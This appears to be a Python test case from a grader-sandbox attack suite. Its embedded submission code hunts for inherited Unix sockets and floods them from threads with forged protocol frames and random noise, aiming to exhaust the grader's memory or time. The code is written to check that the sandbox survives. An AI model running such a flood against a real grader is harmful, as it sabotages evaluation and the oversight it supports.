"""Floods the grader's socket from a thread, with noise and with frames that look right."""

from tests.attacks.suite import STUB, Attack

ATTACK = Attack(
    harm="a grader that runs out of memory or time",
    answer=STUB
    + """
import os
import socket
import threading
import time

from workbook.grade.sandbox.wire import Message, encode

FRAMES = encode(Message("earlier", 3, {"name": "sigmoid", "args": (), "kwargs": {}})) * 500


def flood(one, data):
    end = time.monotonic() + 20
    try:
        while time.monotonic() < end:
            one.sendall(data)
    except OSError:
        pass


for handle in range(3, 256):
    try:
        one = socket.socket(fileno=os.dup(handle))
    except OSError:
        continue
    if one.family == socket.AF_UNIX:
        for data in (FRAMES, os.urandom(2**20)):
            threading.Thread(target=flood, args=(one, data), daemon=True).start()
""",
    status="graded",
)
